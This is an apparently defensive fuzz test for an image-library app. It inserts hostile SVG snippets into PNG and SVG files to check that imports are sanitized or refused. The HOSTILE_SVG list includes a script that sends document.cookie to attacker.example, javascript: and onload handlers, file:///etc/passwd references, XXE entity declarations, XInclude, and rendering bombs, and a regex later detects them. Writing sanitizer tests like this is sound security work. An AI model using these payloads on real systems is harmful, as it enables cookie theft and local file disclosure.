import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { basename, join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createStudio, type Studio } from '../../../src/main/core/studio.ts';
import { ERROR_CODES } from '../../../src/shared/errors.ts';
import { corpusMarks, renderMarkPng } from '../../helpers/corpus.ts';
import { auditStore } from '../../helpers/data-audit.ts';
import { scaled } from '../../helpers/scale.ts';
import { tempDir } from '../../helpers/temp-dir.ts';

const SEED = process.env.MARQUE_FUZZ_SEED ? Number(process.env.MARQUE_FUZZ_SEED) : 20_261_122;
/** The first cases of the same seeded sequence in the fast loop; 80 in the slow project. */
const FILES = scaled(30, 80);

/** Snippets an attacker would put in an SVG: scripts, handlers, external and local references, XXE, bombs. */
const HOSTILE_SVG = [
  '<script>fetch("http://attacker.example/?c="+document.cookie)</script>',
  '<g onload="alert(1)"><rect width="5" height="5"/></g>',
  '<image href="file:///etc/passwd" width="10" height="10"/>',
  '<image xlink:href="../../secret.png" width="10" height="10"/>',
  '<use href="http://attacker.example/sprite.svg#a"/>',
  '<style>@import url(http://attacker.example/x.css); rect { fill: url(file:///etc/passwd) }</style>',
  '<rect style="fill:url(http://attacker.example/p)" width="4" height="4"/>',
  '<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://attacker.example"/></foreignObject>',
  '<a href="javascript:alert(1)"><circle r="3"/></a>',
  '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  '<?xml-stylesheet href="http://attacker.example/s.xsl"?>',
  '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>',
  '<svg width="100000" height="100000"><rect width="100%" height="100%"/></svg>',
  '<filter id="f"><feTurbulence baseFrequency="0.9" numOctaves="10"/><feGaussianBlur stdDeviation="500"/></filter><rect filter="url(#f)" width="100%" height="100%"/>',
  `${'<g>'.repeat(400)}${'</g>'.repeat(400)}`,
  '<image href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAATiAAAE4gCAYAAAA"/>',
  '<set attributeName="href" to="javascript:alert(1)"/>',
  '\u0000\uFFFE<',
];

type Mutation =
  | { readonly kind: 'flip'; readonly at: readonly number[]; readonly xor: number }
  | { readonly kind: 'truncate'; readonly keep: number }
  | { readonly kind: 'splice'; readonly at: number; readonly from: number }
  | { readonly kind: 'insert'; readonly at: number; readonly snippet: number }
  | { readonly kind: 'none' };

const at = fc.double({ min: 0, max: 1, noNaN: true });
const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.record({
      kind: fc.constant('flip' as const),
      at: fc.array(at, { minLength: 1, maxLength: 12 }),
      xor: fc.integer({ min: 1, max: 255 }),
    }),
  },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('truncate' as const), keep: at }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('splice' as const), at, from: fc.nat() }) },
  {
    weight: 4,
    arbitrary: fc.record({ kind: fc.constant('insert' as const), at, snippet: fc.nat(HOSTILE_SVG.length - 1) }),
  },
  { weight: 1, arbitrary: fc.constant({ kind: 'none' as const }) },
);

function mutate(bytes: Buffer, m: Mutation, others: readonly Buffer[]): Buffer {
  const index = (f: number, length: number) => Math.min(length, Math.floor(f * length));
  switch (m.kind) {
    case 'flip': {
      const out = Buffer.from(bytes);
      for (const f of m.at) {
        const i = index(f, out.length - 1);
        out[i] = (out[i] as number) ^ m.xor;
      }
      return out;
    }
    case 'truncate':
      return bytes.subarray(0, index(m.keep, bytes.length));
    case 'splice': {
      const other = others[m.from % others.length] as Buffer;
      return Buffer.concat([bytes.subarray(0, index(m.at, bytes.length)), other.subarray(index(m.at, other.length))]);
    }
    case 'insert': {
      // In an SVG: after a tag boundary near the chosen point, so the snippet is parsed, not just text.
      const text = bytes.toString('latin1');
      const near = text.indexOf('>', index(m.at, text.length));
      const at = near === -1 ? text.length : near + 1;
      return Buffer.concat([bytes.subarray(0, at), Buffer.from(HOSTILE_SVG[m.snippet] as string), bytes.subarray(at)]);
    }
    case 'none':
      return bytes;
  }
}

describe('fuzzing the import path with mutated real PNG and SVG files', () => {
  let dir: Awaited<ReturnType<typeof tempDir>>;
  let studio: Studio;

  beforeAll(async () => {
    dir = await tempDir('marque-fuzz-import-');
    studio = await createStudio({
      dataDir: join(dir.path, 'data'),
      intakeProcesses: 2,
      intakeTimeoutMs: 8_000,
      pipeline: { workers: 1 },
    });
  });
  afterAll(async () => {
    try {
      await studio?.close();
    } finally {
      await dir?.cleanup();
    }
  });

  it(`${FILES} mutated files: each imported or refused with a known code naming the file; the library stays consistent`, async () => {
    const marks = corpusMarks().slice(900, 924);
    const svgs = marks.map((m) => Buffer.from(m.svg));
    const pngs = await Promise.all(marks.slice(0, 12).map((m) => renderMarkPng(m, 96)));
    const seeds = [...svgs, ...pngs];
    const cases = fc.sample(fc.tuple(fc.nat(seeds.length - 1), mutation, fc.boolean()), { numRuns: FILES, seed: SEED });
    const folder = join(dir.path, 'mutants');
    await mkdir(folder);
    const files: string[] = [];
    for (const [i, [pick, m, lie]] of cases.entries()) {
      const source = seeds[pick] as Buffer;
      const isSvg = pick < svgs.length;
      const bytes = mutate(source, isSvg || m.kind !== 'insert' ? m : { kind: 'none' }, seeds);
      // Sometimes the extension lies: the sniffer, not the name, decides.
      const ext = isSvg !== lie ? 'svg' : 'png';
      const path = join(folder, `mutant-${String(i).padStart(3, '0')}-${m.kind}.${ext}`);
      await writeFile(path, bytes);
      files.push(path);
    }

    const report = await studio.library.importPaths([folder]);
    expect(report.outcomes.length).toBe(FILES);
    const codes = new Map<string, number>();
    for (const outcome of report.outcomes) {
      if (outcome.status === 'failed') {
        codes.set(outcome.code, (codes.get(outcome.code) ?? 0) + 1);
        expect(ERROR_CODES).toContain(outcome.code);
        expect(outcome.code, `${outcome.path}: ${outcome.message}`).not.toBe('INTERNAL');
        expect(outcome.message).toContain(basename(outcome.path));
      } else {
        codes.set(outcome.status, (codes.get(outcome.status) ?? 0) + 1);
        // What was kept of a hostile SVG is the sanitized master: nothing active, nothing external.
        if (outcome.logo.format === 'svg') {
          const master = await readFile(studio.library.mediaFile(outcome.logo.id, 'original').path, 'utf8');
          expect(master, outcome.path).not.toMatch(
            /<script|\son\w+\s*=|javascript:|file:|https?:\/\/attacker|<!DOCTYPE|<!ENTITY|xi:include|foreignObject|@import/i,
          );
        }
      }
    }
    console.log(`mutated imports: ${JSON.stringify(Object.fromEntries(codes))}`);
    // Both ways out are exercised (80 cases: more than 10 of each).
    expect(codes.get('imported') ?? 0).toBeGreaterThan(FILES / 8);
    expect(report.failed).toBeGreaterThan(FILES / 8);

    // Consistent: every stored blob hashes to its name, tmp is empty, rows and blobs agree.
    const store = await auditStore(studio.dataDir);
    expect(store.corrupt).toEqual([]);
    expect(store.tmpLeftovers).toEqual([]);
    const rows = new Set(studio.db.prepare('SELECT hash FROM blobs').pluck().all() as string[]);
    expect(new Set(store.blobs)).toEqual(rows);
    expect(studio.db.pragma('integrity_check', { simple: true })).toBe('ok');
    expect(studio.db.pragma('foreign_key_check')).toEqual([]);

    // And the studio keeps working: a clean file imports, recipes run on what was imported.
    const clean = join(dir.path, 'clean.png');
    await writeFile(clean, await renderMarkPng(corpusMarks()[950] as never, 128));
    const after = await studio.library.importPaths([clean]);
    expect(after.imported).toBe(1);
    const imported = report.outcomes.flatMap((o) => (o.status === 'imported' ? [o.logo.id] : []));
    for (const id of imported.slice(0, 3)) {
      const job = await studio.pipeline.runToCompletion(id, 'thumbnail-png', { size: 64 }).catch((e: unknown) => e);
      if (job instanceof Error) expect(ERROR_CODES).toContain((job as { code?: string }).code);
      else expect((job as { state: string }).state).toBe('done');
    }
    expect(
      studio.library.list({
        search: undefined,
        colorTolerance: 12,
        sort: 'importedAt',
        order: 'desc',
        offset: 0,
        limit: 500,
      } as never).total,
    ).toBe((report.imported ?? 0) + 1);
  }, 120_000);
});
